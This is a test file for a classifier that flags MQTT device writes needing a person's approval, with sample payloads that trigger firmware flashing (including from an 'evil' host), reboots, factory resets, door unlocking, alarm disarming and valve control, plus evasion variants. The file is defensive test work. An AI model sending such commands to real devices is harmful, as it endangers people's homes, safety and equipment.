import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { classesOf } from '../../src/tools/danger-classes.ts';

const reasons = (topic: string, payload = '', own: string[] = []) => classesOf(topic, Buffer.from(payload), own);

const FIRMWARE = /firmware/;
const RESTART = /restart/;
const JOIN = /join a network/;
const LOCK = /lock/;
const VALVE = /valve/;
const COVER = /cover/;
const SPARKPLUG = /Sparkplug/;
const DISCOVERY = /Home Assistant/;
const DOLLAR = /\$/;

test.each([
  '{"cmd":"reboot"},',
  '{"cmd":"on"}\n{"cmd":"reboot"}',
  '{"command":"sudo reboot now"}',
  'state=UNLOCK',
  "{'action': 'factory_reset'}",
  '{"broken": reboot',
])('%s, which a lenient device may obey -> a person decides', (payload) => {
  expect(reasons('dev/x/cmd', payload)).toHaveLength(1);
});

describe('writes that a person should decide', () => {
  test.each<[RegExp, string, string]>([
    [FIRMWARE, 'zigbee2mqtt/bridge/request/device/ota_update/update', '{"id":"lamp"}'],
    [FIRMWARE, 'cmnd/plug/Upgrade', '1'],
    [FIRMWARE, 'plug/cmnd/OtaUrl', 'http://evil/fw.bin'],
    [FIRMWARE, 'cmnd/plug/Backlog', 'OtaUrl http://evil/fw.bin; Upgrade 1'],
    [FIRMWARE, 'homie/kitchen/$implementation/ota/firmware/abc', 'x'],
    [FIRMWARE, 'shellies/shelly1/command', 'update_fw'],
    [FIRMWARE, 'shellyplus1-abc/rpc', '{"id":1,"method":"Shelly.Update","params":{"stage":"stable"}}'],
    [FIRMWARE, 'plant/7/firmware/install', 'v2'],
    [FIRMWARE, 'fleet/7/fota', 'x'],
    [FIRMWARE, 'fleet/7/cmd', '{"action":"firmware_update","url":"x"}'],
    [FIRMWARE, 'fleet/7/cmd', '{"otaUpdate":{"url":"x"}}'],
    [FIRMWARE, 'x/update/install', 'INSTALL'],
    [FIRMWARE, 'x/update/set', '{"command":"install"}'],
    [RESTART, 'fleet/7/cmd', '{"action":{"name":"reboot"}}'],
    [JOIN, 'zwave/_CLIENTS/x/api/startInclusion/set', ''],
    [DISCOVERY, '/homeassistant/light/lamp/config', '{}'],
    [SPARKPLUG, '/spBv1.0/plant/NCMD/edge', 'x'],
    [RESTART, 'zigbee2mqtt/bridge/request/restart', ''],
    [RESTART, 'cmnd/plug/Restart', '1'],
    [RESTART, 'cmnd/plug/Reset', '5'],
    [RESTART, 'cmnd/plug/Backlog0', 'Power on; Restart 1'],
    [RESTART, 'shellyplus1-abc/rpc', '{"method":"Shelly.FactoryReset"}'],
    [RESTART, 'shellyplus1-abc/rpc', '{"method":"Shelly.Reboot"}'],
    [RESTART, 'fleet/7/factory_reset', ''],
    [RESTART, 'fleet/7/cmd', 'reboot'],
    [RESTART, 'fleet/7/cmd', ' Factory-Reset \n'],
    [RESTART, 'fleet/7/set', '{"reboot":true}'],
    [RESTART, 'fleet/7/set', '{"factory_reset":""}'],
    [RESTART, 'fleet/7/cmd', '{"command":"\\u0072eboot"}'],
    [RESTART, 'fleet/7/cmd', '{"state":{"desired":{"action":"restart"}}}'],
    [RESTART, 'fleet/7/cmd', '[{"cmd":"reboot"}]'],
    [RESTART, 'pc/7/shutdown', ''],
    [JOIN, 'zigbee2mqtt/bridge/request/permit_join', '{"time":254}'],
    [JOIN, 'zigbee2mqtt/bridge/config/permit_join', 'true'],
    [JOIN, 'zigbee2mqtt/bridge/request/device/remove', '{"id":"lamp"}'],
    [JOIN, 'tele/bridge/cmnd/ZbPermitJoin', '1'],
    [JOIN, 'zwave/gateway/api/set', '{"method":"startInclusion"}'],
    [JOIN, 'hub/set', '{"permit_join":true}'],
    [LOCK, 'zigbee2mqtt/front_door_lock/set', 'LOCK'],
    [LOCK, 'home/frontDoorLock/set', '1'],
    [LOCK, 'home/lock/front/command', '0'],
    [LOCK, 'home/lock/front', 'OPEN'],
    [LOCK, 'home/front/set', '{"state":"UNLOCK"}'],
    [LOCK, 'home/front/set', 'unlock'],
    [LOCK, 'alarmo/command', 'DISARM'],
    [LOCK, 'haus/Türschloss/set', '1'],
    [LOCK, 'casa/serratura/comando', 'on'],
    [VALVE, 'anlage/Magnetventil3/cmd', '1'],
    [VALVE, 'planta/válvula/set', '1'],
    [VALVE, 'home/valve/water/set', 'CLOSE'],
    [VALVE, 'plant/7/gas-valve', '{"value":"open"}'],
    [VALVE, 'plant/Valve3/cmd', '100'],
    [VALVE, 'plant/7/rpc', '{"method":"open_valve"}'],
    [COVER, 'home/garage_door/set', 'OPEN'],
    [COVER, 'home/garage/door/set', 'TOGGLE'],
    [COVER, 'home/garage/set', 'OPEN'],
    [COVER, 'home/front_door/set', '{"state":"CLOSE"}'],
    [COVER, 'home/Garagentor/set', '1'],
    [COVER, 'home/Süd/Rollläden/left_shutter/set', '0'],
    [COVER, 'home/cover/left/set', '50'],
    [COVER, 'shellies/shelly25/roller/0/command', 'open'],
    [COVER, 'shellyplus2pm-abc/rpc', '{"method":"Cover.Open","params":{"id":0}}'],
    [COVER, 'yard/gate/cmd', '1'],
    [SPARKPLUG, 'spBv1.0/plant/NCMD/edge', 'x'],
    [SPARKPLUG, 'spBv1.0/plant/DCMD/edge/pump', 'x'],
    [SPARKPLUG, 'spBv1.0/STATE/scada', '{"online":false}'],
    [SPARKPLUG, 'spBv1.0/plant/NDEATH/edge', 'x'],
    [SPARKPLUG, 'spBv1.0/plant/DBIRTH/edge/pump', 'x'],
    [DISCOVERY, 'ha2/switch/lamp/config', '{"cmd_t": "a/set","~":"a"}'],
    [DISCOVERY, 'my/prefix/sensor/node/lamp/config', '{"state_topic":"a"}'],
    [DISCOVERY, 'homeassistant/light/lamp/config', '{}'],
    [DISCOVERY, 'homeassistant/device/lamp/config', ''],
    [DOLLAR, '$SYS/broker/x', 'x'],
    [DOLLAR, '$CONTROL/dynamic-security/v1', '{"commands":[]}'],
  ])('%s: %s %s', (reason, topic, payload) => {
    expect(reasons(topic, payload)).toEqual(expect.arrayContaining([expect.stringMatching(reason)]));
  });

  test('the same words in capitals, or with what separates words -> the same', () => {
    for (const level of ['factoryReset', 'FACTORY_RESET', 'factory-reset', 'Factory.Reset']) {
      expect(reasons(`a/${level}`)).toHaveLength(1);
      expect(reasons('a/cmd', level)).toHaveLength(1);
    }
  });

  test('a command behind a mebibyte of other things -> found', () => {
    expect(reasons('a/cmd', JSON.stringify({ pad: 'x'.repeat(1 << 20), cmd: 'reboot' }))).toHaveLength(1);
  });

  test('topics that whoever runs the server named -> asked about, whatever is written', () => {
    expect(reasons('press/7/stroke', '1', ['press/+/stroke'])).toEqual([expect.stringMatching(/whoever runs/)]);
    expect(reasons('press/7/speed', '1', ['press/+/stroke'])).toEqual([]);
  });
});

describe('ordinary writes', () => {
  test.each<[string, string]>([
    ['zigbee2mqtt/lamp/set', '{"state":"ON","brightness":120}'],
    ['zigbee2mqtt/lamp/set', '{"state":"TOGGLE","transition":2}'],
    ['zigbee2mqtt/lamp/set', '{"color":{"r":1,"g":2,"b":3},"effect":"blink"}'],
    ['zigbee2mqtt/lamp/get', '{"state":""}'],
    ['zigbee2mqtt/bridge/request/device/ota_update/check', '{"id":"lamp"}'],
    ['zigbee2mqtt/trv/set', '{"child_lock":"LOCK","current_heating_setpoint":21}'],
    ['cmnd/plug/POWER', 'ON'],
    ['cmnd/plug/Power1', 'TOGGLE'],
    ['cmnd/plug/Dimmer', '40'],
    ['cmnd/plug/Backlog', 'Power on; Delay 10; Power off'],
    ['cmnd/plug/Status', '0'],
    ['shellies/shelly1/relay/0/command', 'on'],
    ['shellyplus1-abc/rpc', '{"id":1,"method":"Switch.Set","params":{"id":0,"on":true}}'],
    ['homeassistant/light/lamp/set', 'OFF'],
    ['homeassistant/status', 'online'],
    ['home/lamp/set', 'off'],
    ['home/garage/light/set', 'ON'],
    ['home/garage/temperature', '21'],
    ['home/front_door/light/set', 'ON'],
    ['home/front_door/contact/state', 'open'],
    ['home/motor/set', '1'],
    ['x/update/state', '{"installed_version":"1.2"}'],
    ['plant/7/update/interval', '5'],
    ['fleet/7/cmd', '{"device":{"name":"reset button"},"on":true}'],
    ['plant/7/pump/config', '{"interval":5}'],
    ['plant/7/config', '{"state_topic":"a"}'],
    ['home/clock/set', '12:00'],
    ['home/block/7/set', 'ON'],
    ['home/gateway/lamp/set', 'ON'],
    ['home/lock/battery', '80'],
    ['home/garage_door/state', 'open'],
    ['home/valve/position', '40'],
    ['home/remote/total', '1'],
    ['home/quota/total', '5'],
    ['home/recover/set', 'ON'],
    ['home/discovery/set', 'ON'],
    ['home/repair/set', 'ON'],
    ['home/lamp/firmware/version', '1.2'],
    ['plant/7/speed/set', '1200'],
    ['plant/7/state', '{"status":"restarted 3 days ago","uptime":3}'],
    ['plant/7/telemetry', '{"firmware":"1.2.3","reset":0,"reboot":false}'],
    ['plant/7/log', 'the pump was reset by hand'],
    ['plant/7/note', '{"text":"please reboot"}'],
    ['test/probe', '{"probe":"bitsperity-mqtt-mcp","seq":1}'],
    ['test/$SYS/x', 'x'],
    ['spBv1.0/plant/NDATA/edge', 'x'],
    ['chat/room', 'open the door, please'],
    ['a/b', ''],
    ['a/b', `${'['.repeat(100_000)}${']'.repeat(100_000)}`.slice(0, 200_000)],
  ])('%s %s -> nobody is asked', (topic, payload) => {
    expect(reasons(topic, payload)).toEqual([]);
  });

  test('any topic and any bytes -> an answer; the payload never takes a topic out of its class', () => {
    fc.assert(
      fc.property(fc.string(), fc.uint8Array({ maxLength: 200 }), (topic, bytes) => {
        expect(classesOf(topic, Buffer.from(bytes), [])).toBeInstanceOf(Array);
        expect(classesOf('fleet/7/factory_reset', Buffer.from(bytes), [])).not.toEqual([]);
      }),
    );
  });
});
